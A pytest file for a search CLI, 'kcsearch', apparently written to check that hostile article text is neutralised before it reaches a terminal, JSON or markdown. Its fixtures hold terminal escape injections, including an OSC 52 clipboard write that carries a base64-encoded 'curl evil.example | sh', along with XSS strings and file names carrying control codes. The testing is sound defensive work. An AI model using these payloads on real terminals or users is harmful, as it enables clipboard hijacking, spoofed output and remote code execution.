"""Terminal versus piped highlighting, and what reaches a terminal, a JSON reader or a
markdown renderer from hostile article text."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

import kcsearch
from conftest import invoke
from kcsearch import Snippet
from kcsearch.cli.output import json_text, markdown_cell, neutralise, terminal
from kcsearch.cli.render import mark

# OSC 52 (write the clipboard), a window title, clear screen, CR and backspace overprinting,
# a bidi override that reverses what follows, C1 CSI, DEL
HOSTILE = ("Ceasefire talks \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 resumed. "
           "\x1b]0;pwned\x07\x1b[2J\x1b[H Fake\rReal \x08\x08 \u202eevil\u202c \x9b31m \x7f")
CONTROLS = set(map(chr, [*range(0, 9), *range(11, 32), *range(0x7F, 0xA0)])) | {
    "\u202e", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c"}


def test_terminal_gets_escape_codes_pipe_gets_plain_marks() -> None:
    s = Snippet("talks of the Minsk Group resumed", ((13, 24),))
    assert mark(s, color=False) == "talks of the **Minsk Group** resumed"
    coloured = terminal(mark(s, color=True), color=True)
    assert "\x1b[" in coloured and "Minsk Group" in coloured and "**" not in coloured
    assert terminal(mark(s, color=True), color=False) == "talks of the Minsk Group resumed"


def test_every_control_character_is_shown_not_obeyed() -> None:
    shown = terminal(HOSTILE, color=True)
    assert not CONTROLS & set(shown)
    assert "␛]52;c;" in shown and "Fake␍Real" in shown and "␈␈" in shown
    assert len(neutralise(HOSTILE)) == len(HOSTILE)  # one for one: highlight offsets hold
    assert neutralise("tab\tand\nnewline stay") == "tab\tand\nnewline stay"


def test_only_kcsearch_s_own_styling_reaches_a_terminal() -> None:
    styled = terminal(mark(Snippet("a " + HOSTILE, ((0, 1),)), color=True), color=True)
    assert styled.count("\x1b") == 2 and styled.startswith("\x1b[1;33ma\x1b[0m")


def test_json_escapes_what_a_terminal_would_obey() -> None:
    text = json_text({"body": HOSTILE + "\u2028"})
    assert not CONTROLS & set(text) and "\u2028" not in text
    assert json.loads(text)["body"] == HOSTILE + "\u2028"  # the data itself is unchanged


def test_markdown_escapes_html_and_links() -> None:
    cell = markdown_cell('<script>alert(1)</script> [click](javascript:alert(1)) a|b & c\nd ' + HOSTILE)
    assert "<script>" not in cell and "&lt;script&gt;" in cell
    assert "[click]" not in cell and "\\[click\\]" in cell and "a\\|b" in cell and "&amp;" in cell
    assert "\n" not in cell and not CONTROLS & set(cell)


@pytest.fixture()
def hostile_index(tmp_path: Path, each_engine: str) -> Path:
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "a.txt").write_text(
        f"# Ceasefire \x1b]0;title\x07 talks\n\n{HOSTILE}\n\n"
        f"\"The ceasefire holds \x1b[2J today,\" Dmitry Peskov said. Armenia denied it.\n\n"
        "Turkey sent 4,000 Syrian mercenaries <script>x</script>, officials said.\n")
    name = os.fsencode(str(corpus)) + b"/\x1b]0;name\x07.txt"
    with open(name, "wb") as f:
        f.write(b"Another ceasefire report, officials said.\n")
    (corpus / "sources.toml").write_text('["a.txt"]\noutlet = "Out\\u001b[31mlet"\n')
    r = kcsearch.build([corpus], tmp_path / "ix")
    assert not r.failed, r.failed
    return tmp_path / "ix"


@pytest.mark.parametrize("args", [
    ["search", "ceasefire"], ["search", "ceasefire", "--facets"], ["search", "ceasefire", "--json"],
    ["quotes"], ["quotes", "--json"], ["quotes", "ceasefire", "--speaker", "Peskov"],
    ["check", "Turkey sent 4,000 Syrian mercenaries"],
    ["check", "Turkey sent 4,000 Syrian mercenaries", "--format", "markdown"],
    ["check", "Turkey sent 4,000 Syrian mercenaries", "--json"],
    ["show", "a.txt"], ["show", "a.txt", "--json"], ["similar", "a.txt"],
    ["show", "\x1b]0;x\x07"], ["search", "\x1b[2J"], ["search", "--limit", "\x1b[2J", "x"],
    ["index", "\x1b]0;missing\x07"],
])
def test_no_command_prints_a_control_character_from_the_corpus(hostile_index: Path,
                                                                args: list[str]) -> None:
    r = invoke([*args, "--index", str(hostile_index)])
    assert not CONTROLS & set(r.stdout), (args, r.stdout)
    assert not CONTROLS & set(r.stderr), (args, r.stderr)
    if "markdown" in args:
        assert "<script>" not in r.stdout and "&lt;script&gt;" in r.stdout


def test_a_skipped_file_s_name_is_neutralised(tmp_path: Path) -> None:
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "good.txt").write_text("Talks resumed, officials said.\n")
    (corpus / "bad\x1b[2J.txt").write_bytes(b"\x00\x01binary")
    r = invoke(["index", str(corpus), "--index", str(tmp_path / "ix")])
    assert r.exit_code == 1 and "bad\\x1b[2J.txt" in r.stderr and "\x1b" not in r.stderr


def test_usage_errors_are_one_line(tmp_path: Path) -> None:
    for args in (["search", "--limit", "abc", "x"], ["search"], ["index", "--bogus"],
                 ["check"], ["quotes", "--limit"]):
        r = invoke(args)
        assert r.exit_code == 2 and r.stdout == "", args
        assert r.stderr.count("\n") == 1 and r.stderr.startswith("kcsearch: error: "), (args, r.stderr)
        assert "--help" in r.stderr and "Traceback" not in r.stderr
